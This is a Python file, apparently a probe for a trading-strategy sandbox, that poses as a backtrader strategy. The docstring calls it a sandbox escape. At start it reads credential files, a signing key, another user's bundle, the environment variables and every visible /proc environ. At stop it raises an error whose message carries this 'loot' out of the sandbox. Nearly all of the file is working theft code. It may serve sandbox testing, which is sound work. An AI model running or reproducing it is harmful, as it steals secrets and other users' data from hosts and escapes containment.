"""Sandbox escape: read what only the host may hold, then hand it back in the error message.

CONFIG names the signing key, another user's bundle, the host's stores and credential files by
their paths on the host; the agent also reads its environment and every /proc it can see.
"""

import os

import backtrader as bt

CONFIG = {}


def attempt(label, action):
    """Run one attempt; print and return what it got (empty when it was blocked)."""
    try:
        got = action()
    except Exception as exc:  # noqa: BLE001 - any refusal is an outcome
        print(f"{label}: blocked ({type(exc).__name__}: {exc})")
        return ""
    text = got if isinstance(got, str) else repr(got)
    print(f"{label}: GOT {text[:4000]}")
    return text


def read(path):
    with open(path, "rb") as handle:
        return handle.read().decode(errors="replace")


class Agent(bt.Strategy):
    """Loot at start, trade nothing, fail at the end with the loot as its error."""

    def start(self):
        loot = [attempt(f"read {path}", lambda p=path: read(p)) for path in CONFIG["paths"]]
        loot += [
            attempt(f"list {path}", lambda p=path: sorted(os.listdir(p))) for path in CONFIG["dirs"]
        ]
        loot.append(attempt("environment", lambda: dict(os.environ)))
        pids = sorted(p for p in os.listdir("/proc") if p.isdigit())
        print("processes visible:", pids)
        for pid in pids:
            loot.append(attempt(f"/proc/{pid}/environ", lambda p=pid: read(f"/proc/{p}/environ")))
        loot.append(attempt("root listing", lambda: sorted(os.listdir("/"))))
        self.loot = "\n".join(loot)
        print("snoop done")

    def stop(self):
        raise RuntimeError("loot:\n" + self.loot[-6000:])
